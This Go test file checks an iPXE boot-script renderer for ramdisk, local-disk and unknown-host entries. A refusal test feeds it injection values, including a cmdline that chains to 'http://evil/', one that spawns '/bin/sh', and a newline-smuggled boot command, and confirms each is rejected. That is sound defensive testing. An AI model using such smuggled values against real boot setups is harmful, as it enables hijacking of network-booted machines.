package ipxe

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const (
	pinA = "sha256/47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="
	pinB = "sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
	pinC = "sha256/n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg="
)

func testParams() Params {
	return Params{
		GatewayURL:        "https://gw.eu.example.com",
		ServerName:        "gw.eu.example.com",
		Site:              "site_01k5w",
		ServingCAPin:      pinA,
		JoinSigningPin:    pinB,
		JoinEncryptionPin: pinC,
	}
}

func testRamdisk() Ramdisk {
	return Ramdisk{
		MAC:       "52:54:00:12:34:56",
		Kernel:    "http://10.20.0.2:8080/ramdisk/vmlinuz",
		Initrd:    "http://10.20.0.2:8080/ramdisk/initrd",
		Cmdline:   "console=ttyS0,115200  quiet",
		Params:    testParams(),
		Nonce:     "q1w2e3r4t5y6u7i8o9p0-_",
		ScriptURL: "http://10.20.0.2:8080/ipxe/52:54:00:12:34:56.ipxe",
	}
}

// The scripts are compared whole: what iPXE runs is the contract.

func TestRamdiskScript(t *testing.T) {
	want := `#!ipxe
echo bcd: 52:54:00:12:34:56: booting the ramdisk
kernel http://10.20.0.2:8080/ramdisk/vmlinuz initrd=initrd console=ttyS0,115200 quiet bcd.gateway_url=https://gw.eu.example.com bcd.server_name=gw.eu.example.com bcd.site=site_01k5w bcd.serving_ca_pin=sha256/47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU= bcd.join_signing_pin=sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= bcd.join_encryption_pin=sha256/n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg= bcd.boot_nonce=q1w2e3r4t5y6u7i8o9p0-_ || goto failed
initrd --name initrd http://10.20.0.2:8080/ramdisk/initrd || goto failed
boot || goto failed
:failed
echo bcd: 52:54:00:12:34:56: loading the ramdisk failed, retrying in 10 s
imgfree
sleep 10
chain --replace --autofree http://10.20.0.2:8080/ipxe/52:54:00:12:34:56.ipxe
`
	var b strings.Builder
	if err := testRamdisk().Render(&b); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("script (-want +got):\n%s", diff)
	}
}

func TestRamdiskScriptOptionalParams(t *testing.T) {
	rd := testRamdisk()
	rd.Cmdline = ""
	rd.Params.Proxy = "http://10.20.0.2:3128"
	rd.Params.Log = "debug"
	rd.Retry = 5
	want := `#!ipxe
echo bcd: 52:54:00:12:34:56: booting the ramdisk
kernel http://10.20.0.2:8080/ramdisk/vmlinuz initrd=initrd bcd.gateway_url=https://gw.eu.example.com bcd.server_name=gw.eu.example.com bcd.site=site_01k5w bcd.serving_ca_pin=sha256/47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU= bcd.join_signing_pin=sha256/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= bcd.join_encryption_pin=sha256/n4bQgYhMfWWaL+qgxVrQFaO/TxsrC4Is0V1sFbDwCgg= bcd.boot_nonce=q1w2e3r4t5y6u7i8o9p0-_ bcd.proxy=http://10.20.0.2:3128 bcd.log=debug || goto failed
initrd --name initrd http://10.20.0.2:8080/ramdisk/initrd || goto failed
boot || goto failed
:failed
echo bcd: 52:54:00:12:34:56: loading the ramdisk failed, retrying in 5 s
imgfree
sleep 5
chain --replace --autofree http://10.20.0.2:8080/ipxe/52:54:00:12:34:56.ipxe
`
	var b strings.Builder
	if err := rd.Render(&b); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("script (-want +got):\n%s", diff)
	}
}

func TestLocalScript(t *testing.T) {
	want := `#!ipxe
echo bcd: 52:54:00:12:34:56: booting from the local disk
iseq ${platform} efi && goto efi ||
sanboot --no-describe --drive 0x80 ||
echo bcd: 52:54:00:12:34:56: no bootable disk 0x80, handing back to the BIOS
exit 1
:efi
# An error makes the firmware try the next boot option (the disk); success would
# open its boot manager menu instead.
exit 1
`
	var b strings.Builder
	if err := (Local{MAC: "52:54:00:12:34:56"}).Render(&b); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("script (-want +got):\n%s", diff)
	}
}

func TestUnknownScript(t *testing.T) {
	want := `#!ipxe
echo bcd: 52:54:00:12:34:56 has no boot entry on this site, retrying in 30 s
sleep 30
chain --replace --autofree http://10.20.0.2:8080/ipxe/52:54:00:12:34:56.ipxe
`
	var b strings.Builder
	if err := (Unknown{MAC: "52:54:00:12:34:56", ScriptURL: "http://10.20.0.2:8080/ipxe/52:54:00:12:34:56.ipxe"}).Render(&b); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Errorf("script (-want +got):\n%s", diff)
	}
}

// TestRenderRefuses: a value that would break out of the kernel command line or be
// interpreted by iPXE fails the render, names the field, writes nothing and does not
// echo the value.
func TestRenderRefuses(t *testing.T) {
	for _, tc := range []struct {
		field  string
		modify func(*Ramdisk)
	}{
		{"cmdline", func(r *Ramdisk) { r.Cmdline = `console=ttyS0 init="/bin/sh -c x"` }},
		{"cmdline", func(r *Ramdisk) { r.Cmdline = "console=ttyS0\nboot" }},
		{"cmdline", func(r *Ramdisk) { r.Cmdline = "a || chain http://evil/" }},
		{"cmdline", func(r *Ramdisk) { r.Cmdline = "x=${net0/mac}" }},
		{"cmdline", func(r *Ramdisk) { r.Cmdline = "caf\u00e9" }},
		{"cmdline", func(r *Ramdisk) { r.Cmdline = "quiet bcd.site=elsewhere" }},
		{"bcd.site", func(r *Ramdisk) { r.Params.Site = "fsn 1" }},
		{"bcd.site", func(r *Ramdisk) { r.Params.Site = "" }},
		{"bcd.server_name", func(r *Ramdisk) { r.Params.ServerName = "gw'x" }},
		{"bcd.gateway_url", func(r *Ramdisk) { r.Params.GatewayURL = "gw.example.com" }},
		{"bcd.gateway_url", func(r *Ramdisk) { r.Params.GatewayURL = "https://gw.example.com/\tx" }},
		{"bcd.serving_ca_pin", func(r *Ramdisk) { r.Params.ServingCAPin = "sha256/short" }},
		{"bcd.join_signing_pin", func(r *Ramdisk) { r.Params.JoinSigningPin = "md5/" + pinB[7:] }},
		{"bcd.join_encryption_pin", func(r *Ramdisk) { r.Params.JoinEncryptionPin = pinC + " x" }},
		{"bcd.proxy", func(r *Ramdisk) { r.Params.Proxy = "socks5://10.0.0.1:1080" }},
		{"bcd.log", func(r *Ramdisk) { r.Params.Log = "de\\bug" }},
		{"bcd.boot_nonce", func(r *Ramdisk) { r.Nonce = "secret nonce" }},
		{"boot nonce", func(r *Ramdisk) { r.Nonce = "" }},
		{"kernel", func(r *Ramdisk) { r.Kernel = "http://10.20.0.2:8080/vmlinuz#x" }},
		{"initrd", func(r *Ramdisk) { r.Initrd = "/ramdisk/initrd" }},
		{"script URL", func(r *Ramdisk) { r.ScriptURL = "" }},
		{"MAC", func(r *Ramdisk) { r.MAC = "52-54-00-12-34-56" }},
		{"retry", func(r *Ramdisk) { r.Retry = -1 }},
		{"kernel command line", func(r *Ramdisk) { r.Cmdline = strings.Repeat("x", 2000) }},
	} {
		rd := testRamdisk()
		tc.modify(&rd)
		var b strings.Builder
		err := rd.Render(&b)
		if err == nil {
			t.Errorf("%s: rendered", tc.field)
			continue
		}
		if !errors.Is(err, ErrInvalid) || !strings.Contains(err.Error(), tc.field) {
			t.Errorf("%s: error %q does not name it", tc.field, err)
		}
		if strings.Contains(err.Error(), "secret") || strings.Contains(err.Error(), "evil") {
			t.Errorf("%s: error %q echoes the value", tc.field, err)
		}
		if b.Len() != 0 {
			t.Errorf("%s: wrote %d bytes", tc.field, b.Len())
		}
	}
}

func TestParamsValidate(t *testing.T) {
	if err := testParams().Validate(); err != nil {
		t.Fatal(err)
	}
	p := testParams()
	p.ServingCAPin = ""
	if err := p.Validate(); err == nil || !strings.Contains(err.Error(), "bcd.serving_ca_pin") {
		t.Errorf("Validate: %v", err)
	}
}
